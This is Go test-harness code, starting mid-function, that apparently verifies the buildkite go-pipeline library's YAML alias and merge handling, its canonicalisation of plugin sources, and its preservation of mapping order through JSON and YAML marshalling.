					if after := anyToDoc(got).String(); after != before {
						viol("mutating one expansion changed the decoded value elsewhere", nil)
						return
					}
				}
			}
			// second oracle: yaml.v3's own decoder, as a key->value set
			if o.StringKeys && g.Feat["merge:repeated-key"] == 0 && g.Feat["key:alias"] == 0 {
				var v3 any
				if err := node.Decode(&v3); err == nil {
					if diff := doc.Equal(want, anyToDocV3(v3), doc.EqOpts{}); diff != "" {
						c.Count("yaml_v3_decoder_disagrees_with_resolver", 1)
						if doc.Equal(gd, anyToDocV3(v3), doc.EqOpts{}) == "" {
							c.Infra("resolver disagrees with both yaml.v3 and go-pipeline on %s: %s", id, diff)
						}
					} else {
						c.Count("yaml_v3_decoder_agrees", 1)
					}
				}
			}
		}
		// through Parse as well: the graph as a top-level extra of a pipeline
		if i%4 == 0 && werr == nil {
			wrapped := doc.M(doc.P("steps", doc.L()), doc.P("graph", g.Root))
			wrapped.Map[0].Val.Seq = []*doc.Node{}
			wtext, err := doc.ToYAML(wrapped, doc.YAMLOpts{Rng: r, Anchors: true})
			if err == nil {
				jr.write(fmt.Sprint(i%64), id, wtext)
				p, perr := parseText(wtext)
				if perr != nil && !warning.Is(perr) {
					viol("Parse rejects a pipeline carrying the acyclic graph as an extra key: "+perr.Error(), map[string]any{"pipeline_document": clip(wtext, 6000)})
					return
				}
				gd := anyToDoc(p.RemainingFields["graph"])
				if diff := doc.Equal(want, gd, doc.EqOpts{Ordered: true}); diff != "" {
					viol("graph decoded through Parse differs from the resolver: "+diff, map[string]any{"pipeline_document": clip(wtext, 6000)})
					return
				}
				c.Count("graphs_through_parse", 1)
			}
		}
		for k, v := range g.Feat {
			c.Count("feature_"+k, v)
		}
		c.Feature(featKeys(g.Feat), werr != nil)
		if c.WantSample() && len(text) < 900 && len(g.Feat) >= 3 {
			exp := "error"
			if want != nil {
				exp = want.String()
			}
			c.Sample(map[string]any{"document": text, "expected": clip(exp, 900)})
		}
	}
	c.Phase("dags", func() {
		c.Parallel("dag", n, func(i int, r *rand.Rand) { runCase("dag", i, r, false) })
	})
	c.Phase("cyclic", func() {
		c.Parallel("cyc", ncyc, func(i int, r *rand.Rand) { runCase("cyc", i, r, true) })
	})
	// Hand-written cycle shapes through Parse (parser.go path) and DecodeYAML.
	shapes := []struct {
		name, text string
		wantErr    bool
	}{
		{"self-value", "a: &a\n  b: *a\n", true},
		{"self-seq", "a: &a [1, *a]\n", true},
		{"mutual", "a: &a\n  b: &b\n    c: *a\n    d: *b\n", true},
		{"merge-self", "a: &a\n  <<: *a\n  k: 1\n", false},
		{"merge-mutual", "a: &a\n  k: 1\n  b: &b\n    <<: *a\n", true},
		{"merge-seq-self", "a: &a\n  <<: [*a, *a]\n  k: 1\n", false},
		{"deep-alias-chain", deepChain(200), false},
		{"wide-reuse", wideReuse(12), false},
	}
	for _, sh := range shapes {
		id := "shape/" + sh.name
		if c.Only != "" && c.Only != id {
			continue
		}
		jr.write("shape", id, sh.text)
		for _, via := range []string{"DecodeYAML", "Parse"} {
			var derr error
			pi := run.Guard(func() {
				if via == "DecodeYAML" {
					var node yaml.Node
					if err := yaml.Unmarshal([]byte(sh.text), &node); err != nil {
						derr = nil
						return
					}
					_, derr = ordered.DecodeYAML(&node)
				} else {
					_, derr = pipeline.Parse(strings.NewReader("steps: []\nx:\n  " + strings.ReplaceAll(strings.TrimRight(sh.text, "\n"), "\n", "\n  ") + "\n"))
					if warning.Is(derr) {
						derr = nil
					}
				}
			})
			c.Eval(1)
			c.Feature("shape", sh.name, via)
			if pi != nil {
				c.Violation(id, map[string]any{"what": via + " panicked: " + pi.Value, "document": sh.text, "stack": pi.Stack})
				continue
			}
			if (derr != nil) != sh.wantErr {
				c.Violation(id, map[string]any{"what": fmt.Sprintf("%s: error=%v, expected error=%v", via, derr, sh.wantErr), "document": clip(sh.text, 2000)})
			}
			c.Count("hand_written_shapes", 1)
		}
		jr.done(id)
	}
	// Hand-written content shapes: integer keys beyond the int64 range, spelled differently in the mapping and in
	// what it merges (the doc model of the generator holds int64 keys only).
	for _, sh := range []struct{ name, text, want string }{
		{"u64-explicit-beats-merged", "base: &b {0xFFFFFFFFFFFFFFFF: merged, other: 1}\ntop:\n  18446744073709551615: explicit\n  <<: *b\n", `{"18446744073709551615":"explicit","other":1}`},
		{"u64-earlier-source-wins", "a: &a {0x8000000000000000: from-a}\nb: &b {9223372036854775808: from-b, z: 1}\ntop: {<<: [*a, *b]}\n", `{"9223372036854775808":"from-a","z":1}`},
		{"u64-alias-key", "max: &max 0xFFFF_FFFF_FFFF_FFFF\nm: &m {18446744073709551615: merged, y: 2}\ntop:\n  *max : explicit\n  <<: *m\n", `{"18446744073709551615":"explicit","y":2}`},
		{"small-control", "m: &m {16: merged, y: 2}\ntop:\n  0x10: explicit\n  <<: *m\n", `{"16":"explicit","y":2}`},
		{"octal-and-binary", "m: &m {0o17: merged, 0b11: merged3}\ntop:\n  15: explicit\n  3: explicit3\n  <<: *m\n", `{"15":"explicit","3":"explicit3"}`},
	} {
		id := "content/" + sh.name
		if c.Only != "" && c.Only != id {
			continue
		}
		var node yaml.Node
		if err := yaml.Unmarshal([]byte(sh.text), &node); err != nil {
			c.Infra("content shape %s does not parse: %v", sh.name, err)
			continue
		}
		var v any
		var derr error
		if pi := run.Guard(func() { v, derr = ordered.DecodeYAML(&node) }); pi != nil {
			c.Violation(id, map[string]any{"what": "DecodeYAML panicked: " + pi.Value, "document": sh.text, "stack": pi.Stack})
			continue
		}
		c.Eval(1)
		if derr != nil {
			c.Violation(id, map[string]any{"what": "DecodeYAML failed: " + derr.Error(), "document": sh.text})
			continue
		}
		want, _ := doc.FromJSON([]byte(sh.want))
		got, has := anyToDoc(v).Get("top")
		if !has {
			c.Violation(id, map[string]any{"what": "no `top` in the result", "document": sh.text})
			continue
		}
		if diff := doc.Equal(want, got, doc.EqOpts{NumByValue: true}); diff != "" {
			c.Violation(id, map[string]any{"what": "merge result differs from the merge rules (keys are the same key whatever base they are spelled in): " + diff, "document": sh.text, "got": got.String(), "want": sh.want})
			continue
		}
		c.Count("hand_written_content_shapes", 1)
		c.Feature("content", sh.name)
	}
	jr.clear()
	c.Finish("exploration",
		"five hand-written content shapes with integer keys beyond int64 and in other bases; random anchor graphs over mappings, sequences and scalars: aliases as values and as keys (string/int/bool scalars; int/bool/hex key spellings that canonicalise), merges as single alias, sequence of aliases, inline mapping, repeated `<<` keys and merges reached through merges, up to 12 shared nodes, expansion bounded to 10^4 nodes, rendered to YAML by the harness (block/flow) and decoded with ordered.DecodeYAML; expected content from the harness's merge-rule resolver (ordered comparison), a second weaker oracle from yaml.v3's own decoder where applicable, pointer-uniqueness and mutate-one-expansion monitors for copy independence; a second phase adds back-edges (value cycles: must be rejected; merge-only cycles: must be tolerated; mappings used as keys through aliases: must be rejected) with per-case wall-clock recorded; hand-written cycle shapes through Parse and DecodeYAML. distinct_nontrivial counts distinct feature sets",
		nil,
		[]string{"error messages are not checked", "duplicate explicit keys and merge values that are not mappings are outside the property and not generated", "a stack overflow is process-fatal: the driver attributes a dead process to the journalled case"})
}

func featKeys(m map[string]int) string {
	ks := make([]string, 0, len(m))
	for k := range m {
		ks = append(ks, k)
	}
	sortStrings(ks)
	return strings.Join(ks, ",")
}

func sortStrings(s []string) {
	for i := 1; i < len(s); i++ {
		for j := i; j > 0 && s[j] < s[j-1]; j-- {
			s[j], s[j-1] = s[j-1], s[j]
		}
	}
}

func deepChain(n int) string {
	var b strings.Builder
	b.WriteString("a0: &a0 {k: v}\n")
	for i := 1; i < n; i++ {
		fmt.Fprintf(&b, "a%d: &a%d {p: *a%d}\n", i, i, i-1)
	}
	return b.String()
}

func wideReuse(n int) string {
	var b strings.Builder
	b.WriteString("a0: &a0 [x, y]\n")
	for i := 1; i < n; i++ {
		fmt.Fprintf(&b, "a%d: &a%d [*a%d, *a%d]\n", i, i, i-1, i-1)
	}
	return b.String()
}

// anyToDocV3 converts what yaml.v3 decodes into `any`.
func anyToDocV3(v any) *doc.Node {
	switch t := v.(type) {
	case map[string]any:
		n := &doc.Node{Kind: doc.KMap, Map: []doc.Pair{}}
		for k, e := range t {
			n.Map = append(n.Map, doc.P(k, anyToDocV3(e)))
		}
		return n
	case map[any]any:
		n := &doc.Node{Kind: doc.KMap, Map: []doc.Pair{}}
		for k, e := range t {
			n.Map = append(n.Map, doc.P(fmt.Sprint(k), anyToDocV3(e)))
		}
		return n
	case []any:
		n := &doc.Node{Kind: doc.KSeq, Seq: []*doc.Node{}}
		for _, e := range t {
			n.Seq = append(n.Seq, anyToDocV3(e))
		}
		return n
	}
	return anyToDoc(v)
}
