package main

import (
	"encoding/json"
	"fmt"
	"math/rand/v2"
	"strings"

	pipeline "github.com/buildkite/go-pipeline"
	"gopkg.in/yaml.v3"

	"verif/doc"
	"verif/run"
)

func init() { register("C17", checkC17) }

const c17NameChars = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789._-"

func c17Name(r *rand.Rand) string {
	n := 1 + r.IntN(10)
	var b strings.Builder
	for i := 0; i < n; i++ {
		ch := c17NameChars[r.IntN(len(c17NameChars))]
		if i == 0 && ch == '.' {
			ch = 'a'
		}
		b.WriteByte(ch)
	}
	return b.String()
}

// c17Ref draws a git-legal ref over [A-Za-z0-9._/-] without empty or
// dot-only path components.
func c17Ref(r *rand.Rand) string {
	comps := 1 + r.IntN(3)
	parts := make([]string, comps)
	for i := range parts {
		for {
			p := c17Name(r)
			if strings.Trim(p, ".") != "" {
				parts[i] = p
				break
			}
		}
	}
	pool := []string{"v1.2.3", "main", "master", "v4", "feature/x", "1.0", "release-2", "a_b", "0", "v1.0.0-beta.1"}
	if r.IntN(2) == 0 {
		return pool[r.IntN(len(pool))]
	}
	return strings.Join(parts, "/")
}

// c17Source builds a source from a documented form together with its
// expected canonical form.
func c17Source(r *rand.Rand) (src, want, form string) {
	withRef := func(s string) (string, string) {
		if r.IntN(3) != 0 {
			ref := c17Ref(r)
			return s + "#" + ref, "#" + ref
		}
		return s, ""
	}
	switch r.IntN(12) {
	case 0, 1:
		name := c17Name(r)
		s, ref := withRef(name)
		return s, "github.com/buildkite-plugins/" + name + "-buildkite-plugin" + ref, "name"
	case 2, 3:
		org, name := c17Name(r), c17Name(r)
		s, ref := withRef(org + "/" + name)
		return s, "github.com/" + org + "/" + name + "-buildkite-plugin" + ref, "org/name"
	case 4:
		lead := []string{"/", "./", "../", ".", "\\", "\\\\server\\share\\", "/abs/path/", "./a/b/", ".hidden/"}[r.IntN(9)]
		s, _ := withRef(lead + c17Name(r))
		return s, s, "path"
	case 5:
		scheme := []string{"https", "http", "ssh", "git", "file", "git+ssh"}[r.IntN(6)]
		host := []string{"github.com", "gitlab.example.com:8443", "git@bitbucket.org", "", "user:pw@host"}[r.IntN(5)]
		p := c17Name(r)
		for k := r.IntN(3); k > 0; k-- {
			p += "/" + c17Name(r)
		}
		if r.IntN(2) == 0 {
			p += ".git"
		}
		s, _ := withRef(scheme + "://" + host + "/" + p)
		return s, s, "scheme-url"
	case 6:
		user := []string{"git@", "", "deploy@"}[r.IntN(3)]
		host := []string{"github.com", "host.xz", "10.0.0.1"}[r.IntN(3)]
		s, _ := withRef(user + host + ":" + c17Name(r) + "/" + c17Name(r) + ".git")
		if user == "" && host == "10.0.0.1" {
			// "10.0.0.1:path" does not parse as a URL and is not a scheme either; still left as written
		}
		return s, s, "scp-style"
	case 7:
		drive := string(rune('A' + r.IntN(26)))
		if r.IntN(2) == 0 {
			drive = strings.ToLower(drive)
		}
		sep := []string{"\\", "/"}[r.IntN(2)]
		s, _ := withRef(drive + ":" + sep + c17Name(r) + sep + c17Name(r))
		return s, s, "windows-drive"
	case 8, 9:
		host := []string{"github.com", "gitlab.com", "bitbucket.org", "example.com", c17Name(r)}[r.IntN(5)]
		p := host
		for k := 2 + r.IntN(3); k > 0; k-- {
			p += "/" + c17Name(r)
		}
		s, _ := withRef(p)
		return s, s, "three-or-more-segments"
	default:
		// already canonical
		org, name := c17Name(r), c17Name(r)
		s, _ := withRef("github.com/" + org + "/" + name + "-buildkite-plugin")
		return s, s, "canonical"
	}
}

// c17RefInProperty reports whether the part after '#' (if any) is a ref
// inside the property: no empty or dot-only path component, no second '#'.
func c17RefInProperty(s string) bool {
	_, ref, has := strings.Cut(s, "#")
	if !has {
		return true
	}
	if strings.Contains(ref, "#") {
		return false
	}
	for _, comp := range strings.Split(ref, "/") {
		if strings.Trim(comp, ".") == "" {
			return false
		}
	}
	return true
}

func c17MarshalKeys(p *pipeline.Plugin) (jsonKey, yamlKey string, err error) {
	jb, err := json.Marshal(p)
	if err != nil {
		return "", "", err
	}
	jn, err := doc.FromJSON(jb)
	if err != nil {
		return "", "", fmt.Errorf("json output unreadable: %v: %s", err, jb)
	}
	if jn.Kind != doc.KMap || len(jn.Map) != 1 {
		return "", "", fmt.Errorf("json output is not a one-key object: %s", jb)
	}
	yb, err := yaml.Marshal(p)
	if err != nil {
		return "", "", err
	}
	yn, err := doc.FromYAML(yb)
	if err != nil {
		return "", "", fmt.Errorf("yaml output unreadable: %v: %s", err, yb)
	}
	if yn.Kind != doc.KMap || len(yn.Map) != 1 {
		return "", "", fmt.Errorf("yaml output is not a one-key mapping: %s", yb)
	}
	return jn.Map[0].Key, yn.Map[0].Key, nil
}

func checkC17(c *run.Ctx) {
	// Phase 1: documented forms against the rule model.
	n := c.N(1000000, 20000000)
	c.Phase("forms", func() {
		c.Parallel("forms", n, func(i int, r *rand.Rand) {
			src, want, form := c17Source(r)
			p := &pipeline.Plugin{Source: src}
			got := p.FullSource()
			c.Eval(1)
			c.Count("form_"+form, 1)
			if i%64 == 0 {
				c.Feature(form, strings.Contains(src, "#"), len(strings.Split(src, "/")))
			}
			id := run.CaseID("forms", i)
			if got != want {
				c.Violation(id, map[string]any{"what": fmt.Sprintf("FullSource(%q) = %q, rule model (%s) says %q", src, got, form, want)})
				return
			}
			again := (&pipeline.Plugin{Source: got}).FullSource()
			if again != got {
				c.Violation(id, map[string]any{"what": fmt.Sprintf("not idempotent: %q -> %q -> %q", src, got, again)})
				return
			}
			if p.Source != src {
				c.Violation(id, map[string]any{"what": "FullSource modified the plugin"})
				return
			}
			if i%16 == 0 {
				p.Config = map[string]any{"k": "v"}
				jk, yk, err := c17MarshalKeys(p)
				if err != nil {
					c.Violation(id, map[string]any{"what": "marshalling plugin: " + err.Error(), "source": src})
					return
				}
				if jk != got || yk != got {
					c.Violation(id, map[string]any{"what": fmt.Sprintf("marshalled key json=%q yaml=%q, canonical source %q (from %q)", jk, yk, got, src)})
					return
				}
				c.Count("marshal_key_checks", 1)
			}
			if c.WantSample() {
				c.Sample(map[string]any{"source": src, "form": form, "canonical": got})
			}
		})
	})
	// Phase 2: idempotence and marshalled key on every string up to a length
	// over a reduced alphabet (the rule model is not consulted here).
	alpha := []byte("a1/#.-:\\@_")
	maxLen := c.N(5, 6)
	var all []string
	var rec func(prefix []byte)
	rec = func(prefix []byte) {
		if len(prefix) > 0 && c17RefInProperty(string(prefix)) {
			all = append(all, string(prefix))
		}
		if len(prefix) == maxLen {
			return
		}
		for _, ch := range alpha {
			rec(append(prefix, ch))
		}
	}
	rec(nil)
	c.Count("short_strings_enumerated", len(all))
	c.Phase("short", func() {
		c.Parallel("short", len(all), func(i int, r *rand.Rand) {
			src := all[i]
			p := &pipeline.Plugin{Source: src}
			got := p.FullSource()
			again := (&pipeline.Plugin{Source: got}).FullSource()
			c.Eval(1)
			if again != got {
				c.Violation(run.CaseID("short", i), map[string]any{"what": fmt.Sprintf("not idempotent: %q -> %q -> %q", src, got, again)})
				return
			}
			if i%32 == 0 {
				jk, yk, err := c17MarshalKeys(p)
				if err != nil {
					c.Violation(run.CaseID("short", i), map[string]any{"what": "marshalling plugin: " + err.Error(), "source": src})
					return
				}
				if jk != got || yk != got {
					c.Violation(run.CaseID("short", i), map[string]any{"what": fmt.Sprintf("marshalled key json=%q yaml=%q, canonical source %q (from %q)", jk, yk, got, src)})
				}
				c.Count("marshal_key_checks", 1)
			}
		})
	})
	c.Finish("exploration",
		"phase 1: sources generated from the documented forms (name, org/name, each with optional git-legal ref; POSIX/Windows/relative paths; scheme URLs; scp-style; drive letters; three or more segments; already canonical) with the expected canonical source known by construction; idempotence and the key of the JSON and YAML marshalling are checked too; phase 2: every string up to length 5 (quick) / 6 (thorough) over the alphabet {a,1,/,#,.,-,:,\\,@,_} for idempotence and marshalled key. distinct_nontrivial counts distinct (form, has ref, segment count) classes seen in a 1/64 sample",
		map[string]any{"exhaustive": false},
		[]string{"percent-encoded sources and refs with empty or dot-only components are outside the documented forms"})
}
