package main

import (
	"encoding/json"
	"fmt"
	"math/rand/v2"
	"strings"

	pipeline "github.com/buildkite/go-pipeline"
	"gopkg.in/yaml.v3"

	"verif/doc"
	"verif/gen"
	"verif/refmodel"
	"verif/run"
)

func init() { register("C17", checkC17) }

// c17RefInProperty reports whether the part after '#' (if any) is a ref
// inside the property: no empty or dot-only path component, no second '#'.
func c17RefInProperty(s string) bool {
	_, ref, has := strings.Cut(s, "#")
	if !has {
		return true
	}
	if strings.Contains(ref, "#") {
		return false
	}
	for _, comp := range strings.Split(ref, "/") {
		if strings.Trim(comp, ".") == "" {
			return false
		}
	}
	return true
}

func c17MarshalKeys(p *pipeline.Plugin) (jsonKey, yamlKey string, err error) {
	jb, err := json.Marshal(p)
	if err != nil {
		return "", "", err
	}
	jn, err := doc.FromJSON(jb)
	if err != nil {
		return "", "", fmt.Errorf("json output unreadable: %v: %s", err, jb)
	}
	if jn.Kind != doc.KMap || len(jn.Map) != 1 {
		return "", "", fmt.Errorf("json output is not a one-key object: %s", jb)
	}
	yb, err := yaml.Marshal(p)
	if err != nil {
		return "", "", err
	}
	yn, err := doc.FromYAML(yb)
	if err != nil {
		return "", "", fmt.Errorf("yaml output unreadable: %v: %s", err, yb)
	}
	if yn.Kind != doc.KMap || len(yn.Map) != 1 {
		return "", "", fmt.Errorf("yaml output is not a one-key mapping: %s", yb)
	}
	return jn.Map[0].Key, yn.Map[0].Key, nil
}

func checkC17(c *run.Ctx) {
	// Phase 1: documented forms against the rule model.
	n := c.N(1000000, 20000000)
	c.Phase("forms", func() {
		c.Parallel("forms", n, func(i int, r *rand.Rand) {
			src, want, form := gen.PluginSource(r)
			p := &pipeline.Plugin{Source: src}
			got := p.FullSource()
			c.Eval(1)
			c.Count("form_"+form, 1)
			if i%64 == 0 {
				c.Feature(form, strings.Contains(src, "#"), len(strings.Split(src, "/")))
			}
			id := run.CaseID("forms", i)
			if m := refmodel.PluginCanonical(src); m != want {
				c.Infra("harness rule function disagrees with the by-construction expectation for %q: %q vs %q", src, m, want)
				return
			}
			if got != want {
				c.Violation(id, map[string]any{"what": fmt.Sprintf("FullSource(%q) = %q, rule model (%s) says %q", src, got, form, want)})
				return
			}
			again := (&pipeline.Plugin{Source: got}).FullSource()
			if again != got {
				c.Violation(id, map[string]any{"what": fmt.Sprintf("not idempotent: %q -> %q -> %q", src, got, again)})
				return
			}
			if p.Source != src {
				c.Violation(id, map[string]any{"what": "FullSource modified the plugin"})
				return
			}
			if i%16 == 0 {
				p.Config = map[string]any{"k": "v"}
				jk, yk, err := c17MarshalKeys(p)
				if err != nil {
					c.Violation(id, map[string]any{"what": "marshalling plugin: " + err.Error(), "source": src})
					return
				}
				if jk != got || yk != got {
					c.Violation(id, map[string]any{"what": fmt.Sprintf("marshalled key json=%q yaml=%q, canonical source %q (from %q)", jk, yk, got, src)})
					return
				}
				c.Count("marshal_key_checks", 1)
			}
			if i%16 == 8 {
				// the same source arriving in a document: as a bare string, as a one-key mapping in the list, and as a key
				// of the legacy plugins mapping; and through the stand-alone decoder of a plugin list
				qs, _ := json.Marshal(src)
				docs := []string{
					`{"steps":[{"command":"c","plugins":[` + string(qs) + `]}]}`,
					`{"steps":[{"command":"c","plugins":[{` + string(qs) + `:{"k":"v"}}]}]}`,
					`{"steps":[{"command":"c","plugins":{` + string(qs) + `:{"k":"v"}}}]}`,
				}
				for k, text := range docs {
					pp, err := parseText(text)
					if err != nil || len(pp.Steps) != 1 {
						c.Violation(id, map[string]any{"what": fmt.Sprintf("document with plugin source %q (spelling %d) rejected: %v", src, k, err), "document": text})
						return
					}
					cs, ok := pp.Steps[0].(*pipeline.CommandStep)
					if !ok || len(cs.Plugins) != 1 {
						c.Violation(id, map[string]any{"what": fmt.Sprintf("document with plugin source %q (spelling %d) did not give a command step with one plugin", src, k), "document": text})
						return
					}
					if fs := cs.Plugins[0].FullSource(); fs != want {
						c.Violation(id, map[string]any{"what": fmt.Sprintf("plugin source %q parsed from a document (spelling %d) has canonical form %q, rule model (%s) says %q", src, k, fs, form, want), "stored_source": cs.Plugins[0].Source})
						return
					}
					jk, yk, err := c17MarshalKeys(cs.Plugins[0])
					if err != nil || jk != want || yk != want {
						c.Violation(id, map[string]any{"what": fmt.Sprintf("plugin source %q parsed from a document (spelling %d) is marshalled as json=%q yaml=%q (err %v), canonical source %q", src, k, jk, yk, err, want)})
						return
					}
				}
				var pl pipeline.Plugins
				if err := pl.UnmarshalJSON([]byte(`[{` + string(qs) + `:null}]`)); err != nil || len(pl) != 1 || pl[0].FullSource() != want {
					c.Violation(id, map[string]any{"what": fmt.Sprintf("Plugins.UnmarshalJSON of source %q: err=%v, canonical form differs from %q", src, err, want)})
					return
				}
				c.Count("sources_checked_through_documents", 1)
			}
			if c.WantSample() {
				c.Sample(map[string]any{"source": src, "form": form, "canonical": got})
			}
		})
	})
	// Phase 2: idempotence and marshalled key on every string up to a length
	// over a reduced alphabet (the rule model is not consulted here).
	alpha := []byte("a1/#.-:\\@_")
	maxLen := c.N(5, 6)
	var all []string
	var rec func(prefix []byte)
	rec = func(prefix []byte) {
		if len(prefix) > 0 && c17RefInProperty(string(prefix)) {
			all = append(all, string(prefix))
		}
		if len(prefix) == maxLen {
			return
		}
		for _, ch := range alpha {
			rec(append(prefix, ch))
		}
	}
	rec(nil)
	c.Count("short_strings_enumerated", len(all))
	c.Phase("short", func() {
		c.Parallel("short", len(all), func(i int, r *rand.Rand) {
			src := all[i]
			p := &pipeline.Plugin{Source: src}
			got := p.FullSource()
			again := (&pipeline.Plugin{Source: got}).FullSource()
			c.Eval(1)
			if again != got {
				c.Violation(run.CaseID("short", i), map[string]any{"what": fmt.Sprintf("not idempotent: %q -> %q -> %q", src, got, again)})
				return
			}
			if i%32 == 0 {
				jk, yk, err := c17MarshalKeys(p)
				if err != nil {
					c.Violation(run.CaseID("short", i), map[string]any{"what": "marshalling plugin: " + err.Error(), "source": src})
					return
				}
				if jk != got || yk != got {
					c.Violation(run.CaseID("short", i), map[string]any{"what": fmt.Sprintf("marshalled key json=%q yaml=%q, canonical source %q (from %q)", jk, yk, got, src)})
				}
				c.Count("marshal_key_checks", 1)
			}
		})
	})
	// Phase 3: one Plugin object whose Source is rewritten between canonicalisations (what env and matrix
	// interpolation do to a parsed plugin): the result follows the current source, not an earlier one.
	c.Phase("reused", func() {
		c.Parallel("reused", c.N(20000, 400000), func(i int, r *rand.Rand) {
			id := run.CaseID("reused", i)
			p := &pipeline.Plugin{Config: map[string]any{"k": "v"}}
			for k, m := 0, 2+r.IntN(4); k < m; k++ {
				src, want, form := gen.PluginSource(r)
				p.Source = src
				if k > 0 && r.IntN(3) == 0 {
					// marshalled first (the key is the canonical source), then asked directly
					if jk, yk, err := c17MarshalKeys(p); err != nil || jk != want || yk != want {
						c.Violation(id, map[string]any{"what": fmt.Sprintf("plugin object with its source rewritten %d times: marshalled key json=%q yaml=%q err=%v, rule model (%s) says %q for the current source %q", k, jk, yk, err, form, want, src)})
						return
					}
				}
				got := p.FullSource()
				c.Eval(1)
				if got != want {
					c.Violation(id, map[string]any{"what": fmt.Sprintf("plugin object with its source rewritten %d times: FullSource() = %q, rule model (%s) says %q for the current source %q", k, got, form, want, src)})
					return
				}
			}
			c.Count("plugin_objects_reused_across_sources", 1)
		})
	})
	c.Finish("exploration",
		"phase 3 rewrites the Source of one Plugin object 2-5 times and canonicalises (directly and through both marshallers) after each rewrite; phase 1: sources generated from the documented forms (name, org/name, each with optional git-legal ref; POSIX/Windows/relative paths; scheme URLs; scp-style; drive letters; three or more segments; already canonical) with the expected canonical source known by construction; idempotence and the key of the JSON and YAML marshalling are checked too; phase 2: every string up to length 5 (quick) / 6 (thorough) over the alphabet {a,1,/,#,.,-,:,\\,@,_} for idempotence and marshalled key. distinct_nontrivial counts distinct (form, has ref, segment count) classes seen in a 1/64 sample",
		map[string]any{"exhaustive": false},
		[]string{"percent-encoded sources and refs with empty or dot-only components are outside the documented forms"})
}
