package main

import (
	"encoding/json"
	"fmt"
	"math/rand/v2"

	pipeline "github.com/buildkite/go-pipeline"
	"github.com/buildkite/go-pipeline/ordered"
	"github.com/buildkite/go-pipeline/warning"
	"gopkg.in/yaml.v3"

	"verif/doc"
	"verif/gen"
	"verif/refmodel"
	"verif/run"
)

func init() { register("C08", checkC08) }

var c08Eq = doc.EqOpts{NumByValue: true, TimeAsString: true, HonourOrderedKeys: true}

// countOrdered counts order-significant mappings and their keys in an expected tree.
func countOrdered(n *doc.Node) (maps, keys, over8 int) {
	n.Walk(func(x *doc.Node) {
		if x.Kind == doc.KMap && x.OrderedKeys && len(x.Map) > 1 {
			maps++
			keys += len(x.Map)
			if len(x.Map) > 8 {
				over8++
			}
		}
	})
	return
}

func c08CheckText(c *run.Ctx, id, text, style string, plain *doc.Node) bool {
	want, _ := refmodel.Normalise(plain)
	viol := func(what string, extra map[string]any) bool {
		m := map[string]any{"what": what, "style": style, "document": clip(text, 8000)}
		for k, v := range extra {
			m[k] = v
		}
		c.Violation(id, m)
		return false
	}
	p, perr := parseText(text)
	c.Eval(1)
	if perr != nil && !warning.Is(perr) {
		return viol("well-formed document rejected: "+perr.Error(), nil)
	}
	jb, jn, err := marshalJSONTree(p)
	if err != nil {
		return viol(err.Error(), nil)
	}
	refmodel.CanonCacheDisabled(jn)
	if diff := doc.Equal(want, jn, c08Eq); diff != "" {
		return viol("JSON marshalling: order-preserving mapping out of document order (or data differs): "+diff, map[string]any{"json": clip(string(jb), 6000)})
	}
	m, k, o8 := countOrdered(want)
	c.Count("ordered_mappings_compared_json", m)
	c.Count("ordered_keys_compared_json", k)
	c.Count("ordered_mappings_over_8_keys", o8)
	if leadingWSMultiline(jn) {
		c.Count("yaml_legs_skipped_leading_ws_multiline", 1)
		return true
	}
	hasMergeSpelling := false
	plain.Walk(func(x *doc.Node) {
		for _, pr := range x.Map {
			if pr.Key == "<<" && !pr.Merge {
				hasMergeSpelling = true
			}
		}
	})
	if hasMergeSpelling {
		c.Count("yaml_legs_skipped_key_spelled_like_a_merge_K4", 1)
		return true
	}
	yb, yn, err := marshalYAMLTree(p)
	if err != nil {
		return viol(err.Error(), map[string]any{"yaml": clip(string(yb), 3000)})
	}
	refmodel.CanonCacheDisabled(yn)
	if diff := doc.Equal(want, yn, c08Eq); diff != "" {
		return viol("YAML marshalling: order-preserving mapping out of document order (or data differs): "+diff, map[string]any{"yaml": clip(string(yb), 6000)})
	}
	c.Count("ordered_mappings_compared_yaml", m)
	c.Count("ordered_keys_compared_yaml", k)
	return true
}

func checkC08(c *run.Ctx) {
	for _, f := range c.FindingsFor() {
		var w struct {
			Document string `json:"document"`
			Leg      string `json:"leg"`
		}
		if len(f.Witness) == 0 || json.Unmarshal(f.Witness, &w) != nil || w.Document == "" {
			continue
		}
		fails, what := c09Roundtrip(w.Document, w.Leg)
		c.Witness(f, fails, fmt.Sprintf("%s leg of %q: %s", w.Leg, w.Document, what))
	}
	// Phase 1: order-focused documents.
	n := c.N(1500, 40000)
	c.Phase("order-docs", func() {
		c.Parallel("ord", n, func(i int, r *rand.Rand) {
			d, err := gen.OrderDoc(r, i%2 == 0)
			if err != nil {
				c.Count("generator_errors", 1)
				return
			}
			rs := renderings(d, r, 1, func(style, why string) { c.Count("renderings_discarded_generator_invalid", 1) })
			for _, rd := range rs {
				if !c08CheckText(c, run.CaseID("ord", i), rd.Text, rd.Style, d.Plain) {
					return
				}
				c.Count("renderings_"+rd.Style[:4], 1)
			}
			c.Feature("ord", d.FeatureVector())
			for k, v := range d.Feat {
				c.Count(k, v)
			}
			if c.WantSample() {
				c.Sample(map[string]any{"document": clip(rs[len(rs)-1].Text, 1500), "style": rs[len(rs)-1].Style})
			}
		})
	})
	// Nesting depth: order-significant mappings (keys out of alphabetical order, more than 8 of them now and then)
	// sit 1 to 200 (600) levels deep in an unknown field of the pipeline and of a step, under mappings and sequences
	c.Phase("depth", func() {
		maxDepth := c.N(200, 600)
		c.Parallel("deep", maxDepth*2, func(i int, r *rand.Rand) {
			depth, seqs := 1+i/2, i%2 == 1
			leaf := func(tag string) *doc.Node {
				m := doc.M(doc.P("zz_"+tag, doc.I(1)), doc.P("mm_"+tag, doc.S("v")), doc.P("aa_"+tag, doc.I(2)), doc.P("kk_"+tag, doc.L(doc.S("x"))))
				if depth%5 == 0 {
					for k := 9; k >= 0; k-- {
						m.Map = append(m.Map, doc.P(fmt.Sprintf("n%d_%s", k, tag), doc.I(int64(k))))
					}
				}
				return m
			}
			chain := func(tag string) *doc.Node {
				n := leaf(tag)
				for k := depth - 1; k >= 1; k-- {
					if seqs && k%2 == 0 {
						n = doc.L(doc.S("before"), n)
					} else {
						n = doc.M(doc.P(fmt.Sprintf("z%d", k), doc.I(int64(k))), doc.P(fmt.Sprintf("m%d", k), n), doc.P(fmt.Sprintf("a%d", k), doc.S("after")))
					}
				}
				return n
			}
			d := doc.M(doc.P("deep", chain("top")), doc.P("steps", doc.L(doc.M(doc.P("command", doc.S("c")), doc.P("deep", chain("step"))))))
			text, style := string(doc.ToJSON(d)), "json"
